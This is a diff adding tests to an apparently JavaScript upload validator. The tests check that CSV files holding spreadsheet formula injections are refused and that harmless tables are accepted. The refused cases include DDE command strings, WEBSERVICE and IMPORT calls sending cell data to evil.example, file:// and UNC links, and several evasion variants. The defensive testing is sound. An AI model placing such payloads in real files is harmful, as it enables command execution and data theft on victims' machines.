@@ -103,6 +103,39 @@ test('a plain text is a text or a table, as its name says, and nothing else is',
   expect(await acceptMedia('a.txt', Buffer.from([0xff, 0xfe, 0xfd]))).toMatchObject({ problem: 'type' })
 })
 
+test.each([
+  `a,b\n"=IF(TRUE,cmd|'/c calc'!A0,0)",1`,
+  'a,b\n"=IF(TRUE,WEBSERVICE(""http://evil.example/""&A1),0)",1',
+  `a;b\n"=IF(TRUE;\ncmd|'/c calc'!A0;0)";1`,
+  '"=SI(VERDADERO;SERVICIOWEB(""http://evil.example/""&A1);0)"',
+  ...['IMPORTXML', 'IMPORTDATA', 'IMPORTHTML', 'IMPORTFEED', 'IMPORTRANGE', 'COMPLEMENTO'].map(
+    (name) => `=${name}("http://evil.example/")`,
+  ),
+  `="a"&'\\\\servidor\\[a.xlsx]b'!A1`,
+  `='file://servidor/a.ods'#$a.A1`,
+  `＝cmd|'/c calc'!A0`,
+  `-1+cmd|'/c calc'!A0`,
+  `a "b,=cmd|'/c calc'!A0,"`,
+  `"a" "b,=cmd|'/c calc'!A0,"c"`,
+  `sep=x\n1x=cmd|'/c calc'!A0`,
+  '=HYPERLINK("file://servidor/a.exe","a")',
+  '-WEBSERVICE ("http://evil.example/")',
+  '"=cmd|',
+])('the table %j is refused: in a spreadsheet it asks a program, a file or the web', async (table) => {
+  expect(await acceptMedia('a.csv', Buffer.from(table))).toMatchObject({ problem: 'active' })
+})
+
+test.each([
+  'a,b\n"=SUM(A1,B1)",1',
+  'a;b\n"=SI(A1=""a, b"";""cmd|x(y)!"";SUMA(A1:A2))";2',
+  '=HYPERLINK("https://example.org","a")',
+  'nombre;nota\n"Pérez, Ana";- Auditoría (interna), 3 hora(s)\nLuis;"-5"\nEva;+598 99 (123)',
+  'caño,5" de diámetro\n-5,"Auditor(a) de gestión; calidad"',
+  'a|-5|b\n|- x|c!',
+])('the table %j is taken', async (table) => {
+  expect((await accepted('a.csv', Buffer.from(table))).type).toBe('text/csv')
+})
+
 test('a file of a few bytes is refused in words, whatever it begins like', {
   tags: ['full'],
   timeout: 120_000,
